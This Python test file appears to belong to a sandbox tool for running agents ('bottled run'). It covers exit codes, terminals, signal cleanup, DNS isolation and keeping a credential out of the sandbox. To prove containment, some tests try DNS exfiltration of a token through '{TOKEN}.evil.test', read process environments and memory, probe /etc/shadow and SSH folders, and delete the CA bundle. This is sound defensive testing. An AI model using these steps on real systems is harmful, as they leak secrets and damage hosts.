#!/usr/bin/env python3
"""`bottled run` itself: exit codes, input and output, the terminal, every way to end, names, and what a bottle can't see."""
import os, pathlib, shutil, signal, socket, stat, subprocess, threading, time
from lab import Echo, Lab, Skip, can_bind, check, main, wait_for
from people import TOKEN, Person, everybody, people

IP = "127.78.2.1"
PORT = 443 if can_bind(443, IP) else 8443
API = "https://api.play.test" + ("" if PORT == 443 else f":{PORT}")
ROUTES = f"""  - {{host: api.play.test, port: {PORT}, ca: CA, allow_private: [127.0.0.0/8], path: /v1/**,
     auth: {{scheme: bearer, token_ref: env:PLAY_TOKEN}}}}"""


def write_bottle(root):
    lab.bottle("play", ROUTES, "resources: {memory: 512M, pids: 200}\n", root=root)


def setting():
    lab = Lab()
    lab.__enter__()
    lab.origin(Echo, "api.play.test", port=PORT, ip=IP)
    return lab


lab = setting()
everyone = people(lab, write_bottle, ("api.play.test",), IP)


# --- what is asked ----------------------------------------------------------------------------------------------

def processes(of):
    """(pid, text of /proc/PID/of) of every process that has one."""
    for folder in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            yield int(folder.name), (folder / of).read_text(errors="replace")
        except OSError:
            pass  # it has ended, or is not ours to read


def alive(mark):
    return [pid for pid, line in processes("cmdline") if mark in line and pid != os.getpid()]


def groups_left(person):
    return [str(path) for top in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids") for run in person.runs
            for path in pathlib.Path(top).glob(f"bottled-*-{run.process.pid}")]


marks = iter(range(100))


def new_mark():
    """Seconds to sleep that nobody else sleeps: found in /proc/PID/cmdline."""
    return f"98765.{os.getpid()}{next(marks):03}"


def crowd(mark):
    """An agent with children in the background, in a session of their own, and one that is deaf to signals."""
    return (f"sleep {mark} & setsid sleep {mark} & setsid sh -c 'trap \"\" TERM HUP INT; sleep {mark}; :' & "
            f"sleep 0.1; echo ready; sleep {mark}")


def started(person, script, **how):
    run = person.start("sh", "-c", script, **how)
    check(run.process.stdout.readline() == b"ready\n", f"it did not get ready: {run.log()}")
    return run


# --- codes and streams ------------------------------------------------------------------------------------------

@everybody
def story_the_agents_exit_code_is_ours(person):
    for script, code in (("exit 0", 0), ("exit 7", 7), ("kill -9 $$", 137), ("kill -TERM $$", 143)):
        run = person.run("sh", "-c", script)
        check(run.code == code and run.err == "", f"{script}: {run.code} {run.err}")


@everybody
def story_input_and_output_are_files_and_pipes(person):
    data, out = os.urandom(300_000), person.dir / "out"
    (person.dir / "in").write_bytes(data)
    with open(person.dir / "in", "rb") as source, open(out, "wb") as sink:
        person.start("cat", stdin=source, stdout=sink).wait().good()
    check(out.read_bytes() == data, "from a file to a file")
    run = person.start("sh", "-c", "cat; echo complaint >&2; test ! -t 0 && test ! -t 1", stdin=subprocess.PIPE)
    run.wait(stdin=b"x" * 300_000).good()
    check(run.out == "x" * 300_000 and run.err == "complaint\n", "from a pipe to a pipe, and standard error apart")


@everybody
def story_a_reader_that_leaves_ends_the_writer_alone(person):
    run = person.start("sh", "-c", "yes; echo $? >code", stdout=subprocess.PIPE)
    check(run.process.stdout.read(2) == b"y\n", "yes")
    run.process.stdout.close()
    check(run.process.wait(20) == 0 and (run.project / "code").read_text() == "141\n", "SIGPIPE, and the shell went on")


# --- the terminal -----------------------------------------------------------------------------------------------

@everybody
def story_a_terminal_is_the_agents_in_size_and_keys_and_ours_again_afterwards(person):
    script = "test -t 0 && test -t 1 && test -t 2 && stty size </dev/tty && trap 'stty size' WINCH && trap 'echo caught; exit 5' INT" \
             " && echo ready && while :; do sleep 0.05; done"
    with person.terminal("bash", "-c", script, size=(31, 97)) as tty:
        tty.expect("31 97")
        tty.expect("ready")
        check(not tty.is_restored(), "our terminal is raw")
        tty.resize(40, 120)
        tty.expect("40 120")
        tty.type("\x03")
        tty.expect("caught")
        check(tty.end() == 5 and tty.is_restored(), "the agent's code, and the terminal as it was")


@everybody
def story_a_shell_in_the_terminal_has_job_control(person):
    mark = new_mark()
    with person.terminal("bash", "--norc", "-i") as tty:
        tty.type(f"sleep {mark}\n")
        wait_for(lambda: alive(f"sleep\0{mark}"))
        tty.type("\x1a")
        tty.expect("Stopped")
        tty.type("bg; kill -9 %1; wait; exit 3\n")
        check(tty.end() == 3 and tty.is_restored(), "exit 3")


# --- every way to end ---------------------------------------------------------------------------------------------

@everybody
def story_kill_9_takes_everything_down_within_a_second(person):
    mark = new_mark()
    run = started(person, crowd(mark))
    wait_for(lambda: len(alive(f"sleep\0{mark}")) == 4)
    check(bool(groups_left(person)) != ("run.without" in run.log()), "it has its limits, or says that it has none")
    run.process.kill()
    wait_for(lambda: not alive(mark), 1)
    run.wait()
    person.run("true").good()
    check(not groups_left(person), f"the next bottle removes what a killed one left: {groups_left(person)}")


@everybody
def story_kill_9_gives_the_terminal_back(person):
    mark = new_mark()
    with person.terminal("sh", "-c", f"echo ready; exec sleep {mark}") as tty:
        tty.expect("ready")
        wait_for(lambda: not tty.is_restored())
        tty.process.kill()
        wait_for(tty.is_restored, 2)
        wait_for(lambda: not alive(mark), 1)


@everybody
def story_sigterm_ends_the_agent_and_all_that_is_deaf(person):
    mark = new_mark()
    run = started(person, crowd(mark))
    run.process.terminate()
    check(run.wait(20).code == 143 and not alive(mark), f"{run.code} {run.err} {alive(mark)}")
    run = started(person, "trap 'echo bye; exit 9' TERM; echo ready; while :; do sleep 0.05; done")
    run.process.terminate()
    check(run.wait(20).code == 9 and run.out == "bye\n", f"an agent may say goodbye: {run.code} {run.out}")
    check(not groups_left(person), str(groups_left(person)))


@everybody
def story_children_in_the_background_end_with_the_agent(person):
    mark = new_mark()
    run = person.start("sh", "-c", f"setsid sleep {mark} >/dev/null 2>&1 & exit 4")
    check(run.wait(20).code == 4 and not alive(mark), f"{run.code} {alive(mark)}")


# --- names, and nothing else --------------------------------------------------------------------------------------

ASK = r"""
import socket, struct
def ask(name, kind, tcp=False, server='127.0.0.1'):
    q = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    q += struct.pack('>2H', kind, 1)
    s = socket.socket(type=socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5); s.connect((server, 53))
    s.sendall(struct.pack('>H', len(q)) + q if tcp else q)
    a = s.recv(4096)
    if tcp:
        while len(a) < 2 + struct.unpack('>H', a[:2])[0]: a += s.recv(4096)
        a = a[2:]
    code, count = a[3] & 15, struct.unpack('>H', a[6:8])[0]
    print(name, kind, code, count, '.'.join(map(str, a[-4:])) if count else '-')
ask('a.play.test', 1); ask('a.play.test', 28); ask('a.play.test', 15); ask('tcp.play.test', 1, tcp=True)
ask('far.play.test', 1, server='8.8.8.8')
print('libc', socket.getaddrinfo('no.such.name.example', 80)[0][4][0])
u = socket.socket(type=socket.SOCK_DGRAM); u.settimeout(2); u.connect(('9.9.9.9', 123))
try:
    u.send(b'x'); u.recv(1); print('udp left')
except OSError as e:
    print('udp', type(e).__name__)
"""


@everybody
def story_every_name_is_a_synthetic_address_and_nobody_is_asked(person):
    with socket.socket(type=socket.SOCK_DGRAM) as server:  # the one that we would ask
        server.bind((IP, 0))
        run = person.run("python3", "-c", ASK, options=("--dns", f"{IP}:{server.getsockname()[1]}")).good()
        server.settimeout(0)
        try:
            check(False, f"a name left the bottle: {server.recv(512)}")
        except BlockingIOError:
            pass
    lines = dict((" ".join(line.split()[:-1]), line.split()[-1]) for line in run.out.splitlines())
    for asked in ("a.play.test 1 0 1", "tcp.play.test 1 0 1", "far.play.test 1 0 1", "libc"):
        check(lines.get(asked, "").startswith(("198.18.", "198.19.")), f"{asked}: {run.out}")
    for asked in ("a.play.test 28 0 0", "a.play.test 15 0 0"):
        check(lines.get(asked) == "-", f"{asked}: {run.out}")
    check(lines.get("udp") == "ConnectionRefusedError", f"no other port answers: {run.out}")
    for name in ("a.play.test", "tcp.play.test", "far.play.test", "no.such.name.example"):
        check(any("names.asked" in line and name in line for line in run.log().splitlines()), f"{name}: {run.log()}")


@everybody
def story_a_secret_in_a_name_is_not_in_the_log(person):
    run = person.run("python3", "-c", f"import socket; print(socket.gethostbyname('{TOKEN}.evil.test'))").good()
    check("(withheld)" in run.log() and TOKEN not in run.log(), run.log())


# --- the plan -------------------------------------------------------------------------------------------------------

@everybody
def story_a_dry_run_names_variables_and_tells_no_value(person):
    lab.bottle("plan", ROUTES, "env:\n  SETTING: quite-some-value\n", root=person.root)
    person.agent("plan", "bottle: plan\ncommand: [sleep, '1']\n")
    run = person.run(agent=("plan",), options=("--dry-run",)).good()
    for text in (f"WRITABLE       {run.project}\n", "command        sleep 1\n", f"door           tcp {PORT}", "SETTING", "HTTPS_PROXY"):
        check(text in run.out, f"{text}: {run.out}")
    check(TOKEN not in run.out + run.err + run.log() and "quite-some-value" not in run.out, run.out)
    check("https_proxy=" not in run.out and not run.access_log.exists() or run.access_log.read_text() == "", "nothing ran")


@everybody
def story_manifests_cannot_turn_the_proxy_off(person):
    for kind in ("bottle", "agent"):
        env = "env:\n  https_proxy: http://elsewhere.test:1\n"
        lab.bottle("off", ROUTES, env if kind == "bottle" else "", root=person.root)
        person.agent("off", "bottle: off\n" + (env if kind == "agent" else ""))
        run = person.run("env", agent=("off",))
        check(run.code == 2 and "https_proxy" in run.err + checked(person) and run.out == "", f"{kind}: {run.code} {run.out}{run.err}")
    for kind in ("agents", "bottles"):
        (person.root / kind / "off.md").unlink()


def checked(person):
    got = subprocess.run([person.binary, "check", "--root", person.root], capture_output=True, text=True)
    return got.stdout + got.stderr


@everybody
def story_usage_errors_say_what_to_do(person):
    cases = ((("nobody",), (), "bottled check --root"), ((), (), "bottled run AGENT"), (("play", "extra"), (), "bottled run AGENT"),
             (("play",), ("--nonsense",), "bottled run AGENT"), (("play",), ("--project", "/no/such"), "/no/such: No such file or directory"))
    for agent, options, text in cases:
        run = person.run("true", agent=agent, options=options)
        check(run.code == 2 and text in run.err, f"{agent} {options}: {run.code} {run.err}")
    run = person.run()  # the manifest has no command either
    check(run.code in (2, 3) and "`command:`" in run.err, f"{run.code} {run.err}")
    run = person.run("no-such-program")
    check(run.code == 127 and "no-such-program" in run.err, f"{run.code} {run.err}")
    run = person.run("true", options=("--project", str(person.dir / "home")))
    check(run.code == 3 and "project folder" in run.err, f"{run.code} {run.err}")


# --- what a bottle can't see ----------------------------------------------------------------------------------------

@everybody
def story_a_credential_is_nowhere_but_with_the_origin(person):
    script = f"""env; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; ls /proc | grep -c '^[0-9]'
                 curl -sS {API}/v1/x -o got; echo ready; cat >/dev/null"""
    run = person.start("sh", "-c", script, stdin=subprocess.PIPE)
    seen = b""
    while not seen.endswith(b"ready\n"):
        line = run.process.stdout.readline()
        if not line:
            raise AssertionError(f"it ended: {seen} {run.log()}")
        seen += line
    check(TOKEN not in seen.decode() and "HTTPS_PROXY" in seen.decode(), "the bottle's environment")
    check(TOKEN in (run.project / "got").read_text(), "the echo of the origin, which got it")
    holders = [pid for pid, text in processes("environ") if TOKEN in text]
    check(not holders, f"processes {holders} still have it in their environment")
    if person.identity and not sanitized():
        got = subprocess.run(["cat", f"/proc/{run.process.pid}/environ", f"/proc/{run.process.pid}/mem"], capture_output=True,
                             **person.identity)
        check(got.returncode != 0 and got.stdout == b"" and got.stderr.count(b"Permission denied") == 2, str(got))
    run.process.stdin.close()
    run.process.stdin = None
    run.wait().good()
    check(TOKEN not in run.log() + run.access_log.read_text(), "it is in a log")


def sanitized():
    return b"__asan_init" in pathlib.Path(lab.binary).read_bytes()


@everybody
def story_no_guardian_of_a_terminal_holds_a_credential(person):
    with person.terminal("sh", "-c", "echo ready; cat") as tty:
        tty.expect("ready")
        wait_for(lambda: not [pid for pid, text in processes("environ") if TOKEN in text])
        tty.type("\x04")
        check(tty.end() == 0, "cat ends")


@everybody
def story_the_host_is_not_there(person):
    beside = person.dir / "beside"
    beside.write_text("of the host\n")
    beside.chmod(0o644)
    paths = [beside, person.root, person.dir / "home", lab.ca, "/root", "/home", "/etc/shadow", "/etc/ssh", "/var/lib/dpkg/status",
             "/run/systemd", "/sys/class/net", "/proc/1/root/var/lib/dpkg", f"/proc/{os.getpid()}"]
    run = person.run("sh", "-c", 'for p; do if [ -e "$p" ] && [ "$p" != /home ]; then echo "$p"; fi; done; ls /home; id -u', "-",
                     *map(str, paths)).good()
    check(run.out == "agent\n1000\n", run.out)


@everybody
def story_what_the_agent_makes_belongs_to_the_folders_owner(person):
    run = person.start("sh", "-c", "touch file && mkdir sub && touch sub/file && touch /usr/x; rm /etc/ssl/certs/ca-certificates.crt;"
                       " test -w . && test ! -w /usr && test ! -w /etc")
    run.wait().good()
    owners = {path.lstat().st_uid for path in (run.project / "file", run.project / "sub" / "file", run.project)}
    check(owners == {person.uid}, str(owners))


def story_root_in_a_users_folder_makes_the_users_files():
    person = everyone[0]
    if person.uid != 0:
        raise Skip("only root meets a folder that is another's")
    folder = lab.dir / "a-users"
    folder.mkdir()
    os.chown(folder, 4711, 4712)
    person.run("touch", "file", options=("--project", str(folder))).good()
    info = (folder / "file").stat()
    check((info.st_uid, info.st_gid) == (4711, 4712), str(info))


@everybody
def story_two_first_bottles_at_once(person):
    """The authority is made by one of the two, and serves both."""
    other = Person(lab, person.uid, write_bottle, ("api.play.test",), IP, folder=f"pair-{person.uid}")
    script = f"echo ready; cat; curl -sS {API}/v1/$0"
    runs = [other.start("sh", "-c", script, name, stdin=subprocess.PIPE) for name in ("a", "b")]
    for run in runs:
        check(run.process.stdout.readline() == b"ready\n", f"both are running: {run.log()} {run.process.poll()}")
    for run, path in zip(runs, ("/v1/a", "/v1/b")):
        run.wait(stdin=b"").good()
        check(f'"path": "{path}"' in run.out and run.access()[-1]["path"] == path, f"{run.out} {run.err}")


# --- the demo ---------------------------------------------------------------------------------------------------------

@everybody
def story_the_demo_of_dev_run(person):
    folder = person.dir / "examples"
    shutil.copytree("examples", folder)
    got = subprocess.run([folder / "demo", person.binary], capture_output=True, text=True, cwd=person.dir, env=person.environment,
                         timeout=60, **person.identity)
    check(got.returncode == 0 and got.stderr == "", f"{got.returncode} {got.stdout} {got.stderr}")
    wanted = ["the credential DEMO_API_TOKEN is not in my environment", "/v1/hello: the origin got the real credential",
              "/v1/python: the origin got the real credential", "cloned: a repository that came through the proxy",
              '"title":"method-not-allowed"', '"title":"no-route"', '"title":"address-not-allowed"', "Couldn't connect to server",
              "What the proxy saw", "  refused  POST https://paste.example.net:443/upload"]
    for text in wanted + (["/v1/node: the origin got the real credential"] if shutil.which("node", path="/usr/local/bin:/usr/bin") else []):
        check(text in got.stdout, f"no {text!r} in {got.stdout}")


try:
    main("run")
finally:
    lab.__exit__(None)
